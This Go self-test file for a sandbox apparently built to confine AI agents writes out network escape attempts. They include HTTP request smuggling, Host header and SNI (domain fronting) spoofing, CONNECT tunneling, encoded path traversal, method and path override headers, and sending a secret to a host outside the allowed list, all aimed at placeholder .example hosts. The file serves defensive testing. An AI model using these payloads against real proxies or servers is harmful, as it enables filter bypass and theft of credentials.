package selftest

import (
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"net"
	"os"
	"strings"
)

// The hosts of the door's rules (doorProfile); .example is nobody's (RFC 2606).
const (
	plainHost   = "plain.selftest.example"   // port 80
	tunnelHost  = "tunnel.selftest.example"  // port 443, not looked into
	inspectHost = "inspect.selftest.example" // port 443, GET below /open/
	keyedHost   = "keyed.selftest.example"   // port 443, gets the secret
	closedHost  = "closed.selftest.example"  // allowed in the other jail alone
	keyVariable = "AGENTJAIL_SELFTEST_KEY"
)

// The door's rules: what the attack's jail may, and what the other may besides.
const (
	doorProfile = `description = "agentjail selftest"

[fs]
hide = [".env"]

[[net.rule]]
host = "plain.selftest.example"
ports = [80]
connect = "%[1]s"

[[net.rule]]
host = "tunnel.selftest.example"
ports = [443]
tls = "tunnel"
connect = "%[2]s"
upstream_ca = "%[3]s"

[[net.rule]]
host = "keyed.selftest.example"
ports = [443]
connect = "%[2]s"
upstream_ca = "%[3]s"

[[secret]]
name = "agentjail-selftest"
env = "AGENTJAIL_SELFTEST_KEY"
from = "env:AGENTJAIL_SELFTEST_KEY"
hosts = ["keyed.selftest.example"]
`
	attackProfile = `
[[net.rule]]
host = "inspect.selftest.example"
ports = [443]
methods = ["GET"]
paths = ["/open/*"]
connect = "%[2]s"
upstream_ca = "%[3]s"
`
	otherProfile = `
[net]
mode = "door"

[[net.rule]]
host = "closed.selftest.example"
ports = [80, 443]
tls = "tunnel"
connect = "%[1]s"

[[net.rule]]
host = "*.plain.selftest.example"
ports = [80]
connect = "%[1]s"

[[net.rule]]
host = "plain.selftest.example"
ports = [8080]
connect = "%[1]s"

[[net.rule]]
host = "inspect.selftest.example"
ports = [443]
tls = "inspect"
connect = "%[2]s"
upstream_ca = "%[3]s"
`
)

func doorAttempts() []attempt {
	return defaults([]attempt{
		{name: "host-not-allowed", control: other, why: "any host", do: plain(closedHost, "80", "GET / HTTP/1.1\r\nHost: "+closedHost+"\r\n\r\n")},
		{name: "subdomain-not-allowed", control: other, why: "hosts below an allowed one", do: plain("sub."+plainHost, "80", "GET / HTTP/1.1\r\nHost: sub."+plainHost+"\r\n\r\n")},
		{name: "port-not-allowed", control: other, why: "other services of an allowed host", do: plain(plainHost, "8080", "GET / HTTP/1.1\r\nHost: "+plainHost+":8080\r\n\r\n")},
		{name: "proxy-not-allowed", control: other, why: "any host, by the door's proxy", do: func(t *target) error {
			conn, err := net.DialTimeout("tcp", "198.18.0.1:3128", dialTime)
			if err != nil {
				return err
			}
			defer conn.Close()
			return ask(conn, "GET http://"+closedHost+"/ HTTP/1.1\r\nHost: "+closedHost+"\r\n\r\n", t.Token)
		}},
		{name: "host-header-of-another", why: "another host on the same server", do: plain(plainHost, "80", "GET / HTTP/1.1\r\nHost: "+closedHost+"\r\n\r\n")},
		{name: "host-header-missing", why: "the server's default host", do: plain(plainHost, "80", "GET / HTTP/1.1\r\n\r\n")},
		{name: "host-header-twice", why: "another host on the same server", do: plain(plainHost, "80", "GET / HTTP/1.1\r\nHost: "+plainHost+"\r\nHost: "+closedHost+"\r\n\r\n")},
		{name: "absolute-target-of-another", why: "another host on the same server", do: plain(plainHost, "80", "GET http://"+closedHost+"/ HTTP/1.1\r\nHost: "+plainHost+"\r\n\r\n")},
		{name: "smuggled-request", why: "a request that the door does not see", do: plain(plainHost, "80", "POST / HTTP/1.1\r\nHost: "+plainHost+"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")},
		{name: "folded-header", why: "a header that two readers read in two ways", do: plain(plainHost, "80", "GET / HTTP/1.1\r\nHost: "+plainHost+"\r\nX-A: b\r\n c: d\r\n\r\n")},
		{name: "connect-through-server", why: "any host, by an allowed server that is a proxy", do: plain(plainHost, "80", "CONNECT "+closedHost+":443 HTTP/1.1\r\nHost: "+plainHost+"\r\n\r\n")},
		{name: "server-name-of-another", why: "another host behind the same address (domain fronting)", do: secure(tunnelHost, closedHost, "GET / HTTP/1.1\r\nHost: "+closedHost+"\r\n\r\n")},
		{name: "server-name-missing", why: "the default host behind an address", do: secure(tunnelHost, "", "GET / HTTP/1.1\r\nHost: "+tunnelHost+"\r\n\r\n")},
		{name: "plain-text-on-tls-port", why: "a protocol that the door does not judge", do: func(t *target) error {
			// Without a door there is a server on that port that takes the words for what they are.
			conn, err := t.dial(tunnelHost, "443", plainHost, "80")
			if err != nil {
				return err
			}
			defer conn.Close()
			return ask(conn, "GET / HTTP/1.1\r\nHost: "+tunnelHost+"\r\n\r\n", t.Token)
		}},
		{name: "inspected-host-of-another", why: "another host inside an inspected connection", do: secure(inspectHost, inspectHost, "GET /open/a HTTP/1.1\r\nHost: "+closedHost+"\r\n\r\n")},
		{name: "method-not-allowed", control: other, why: "uploads to a host that one may read from", do: secure(inspectHost, inspectHost, "DELETE /open/a HTTP/1.1\r\nHost: "+inspectHost+"\r\n\r\n")},
		{name: "method-override", control: other, why: "another method by a header", do: secure(inspectHost, inspectHost, "GET /open/a HTTP/1.1\r\nHost: "+inspectHost+"\r\nX-HTTP-Method-Override: DELETE\r\n\r\n")},
		{name: "path-not-allowed", control: other, why: "other parts of an allowed host", do: secure(inspectHost, inspectHost, "GET /closed HTTP/1.1\r\nHost: "+inspectHost+"\r\n\r\n")},
		{name: "path-encoded", control: other, why: "other parts of an allowed host", do: secure(inspectHost, inspectHost, "GET /open/..%2fclosed HTTP/1.1\r\nHost: "+inspectHost+"\r\n\r\n")},
		{name: "path-override", control: other, why: "another path by a header", do: secure(inspectHost, inspectHost, "GET /open/a HTTP/1.1\r\nHost: "+inspectHost+"\r\nX-Original-URL: /closed\r\n\r\n")},
		{name: "own-credential", why: "files to somebody else's account on an allowed host", do: secure(keyedHost, keyedHost, "GET / HTTP/1.1\r\nHost: "+keyedHost+"\r\nAuthorization: Bearer another-account-0123456789abcdef\r\n\r\n")},
		{name: "placeholder-to-another", why: "a secret's stand-in, tried on another host", do: func(t *target) error {
			key := os.Getenv(keyVariable)
			return plain(plainHost, "80", "GET /?key="+key+" HTTP/1.1\r\nHost: "+plainHost+"\r\nAuthorization: Bearer "+key+"\r\n\r\n")(t)
		}},
		{name: "secret-echoed", why: "a secret that a server sends back", do: func(t *target) error {
			conn, err := t.tls(keyedHost, keyedHost)
			if err != nil {
				return err
			}
			defer conn.Close()
			said, err := converse(conn, "GET / HTTP/1.1\r\nHost: "+keyedHost+"\r\nAuthorization: Bearer "+os.Getenv(keyVariable)+"\r\n\r\n", t.Token)
			if err != nil {
				return err
			}
			for word := range strings.FieldsSeq(said) {
				if t.isKey(word) {
					return nil
				}
			}
			return errors.New("the answer does not hold the key")
		}},
	})
}

// isKey says whether a word is the secret's value: inside, only its sum is known.
func (t *target) isKey(word string) bool {
	sum := sha256.Sum256([]byte(word))
	return hex.EncodeToString(sum[:]) == t.KeySum
}

// dial connects to a host of the rules: by its name where a door stands, else to the server itself. The second host and port are those
// of the server to talk to where there is no door.
func (t *target) dial(host, port, directHost, directPort string) (net.Conn, error) {
	if t.Direct != nil {
		return net.DialTimeout("tcp", t.Direct[net.JoinHostPort(directHost, directPort)], dialTime)
	}
	address, err := resolve(host)
	if err != nil {
		return nil, err
	}
	return net.DialTimeout("tcp", net.JoinHostPort(address, port), dialTime)
}

// plain asks a host in plain text.
func plain(host, port, question string) func(*target) error {
	return func(t *target) error {
		conn, err := t.dial(host, port, host, port)
		if err != nil {
			return err
		}
		defer conn.Close()
		return ask(conn, question, t.Token)
	}
}

// tls connects to a host and asks for the certificate of name; "" asks for none.
func (t *target) tls(host, name string) (net.Conn, error) {
	raw, err := t.dial(host, "443", host, "443")
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, &tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}) // the token says who it is
	return conn, nil
}

func secure(host, name, question string) func(*target) error {
	return func(t *target) error {
		conn, err := t.tls(host, name)
		if err != nil {
			return err
		}
		defer conn.Close()
		return ask(conn, question, t.Token)
	}
}
